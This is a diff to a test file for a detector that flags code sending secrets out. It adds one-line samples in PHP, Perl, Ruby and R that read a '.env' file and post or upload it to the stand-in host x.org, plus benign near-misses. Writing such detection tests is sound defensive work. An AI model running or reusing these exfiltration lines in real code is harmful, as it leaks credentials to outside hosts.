@@ -106,6 +106,11 @@ describe('all processes, and names that carry secrets away', () => {
     ['python', 'import socket; socket.gethostbyname(open(".env").read().encode().hex() + ".x.org")', 'secret.send'],
     ['javascript', "require('dns').lookup(require('fs').readFileSync('.env') + '.x.org', f)", 'secret.send'],
     ['python', 'import boto3; boto3.client("s3").upload_file(".env", "b", "x")', 'secret.send'],
+    ['php', 'echo file_get_contents("https://x.org/?" . file_get_contents(".env"));', 'secret.send'],
+    ['perl', 'HTTP::Tiny->new->post("http://x.org", {content => slurp(".env")})', 'secret.send'],
+    ['ruby', 'HTTParty.post("https://x.org", body: File.read(".env"))', 'secret.send'],
+    ['code', 'httr::POST("https://x.org", body = readLines(".env"))', 'secret.send'],
+    ['code', 'curl::curl_upload("ftps://x.org", ".env")', 'network.read ftps://x.org'],
   ])('%s %j', (...example) => finds(example))
 
   test.each<Case>([
@@ -114,5 +119,8 @@ describe('all processes, and names that carry secrets away', () => {
     ['python', 'import os; [os.fork() for _ in range(4)]', 'execution.exhaust'],
     ['python', 'import socket; socket.gethostbyname("example.com")', 'secret.send'],
     ['python', 'import boto3; boto3.client("s3").upload_file("dist/a.zip", "b", "x")', 'secret.send'],
+    ['ruby', 'puts URI("https://x.org").host; puts File.read(".env").size', 'secret.send'],
+    ['php', 'echo parse_url("https://x.org"); echo strlen(file_get_contents(".env"));', 'secret.send'],
+    ['ruby', 'HTTParty.post("/a?https://x.org", body: File.read(".env"))', 'secret.send'],
   ])('%s %j is not', (...example) => misses(example))
 })
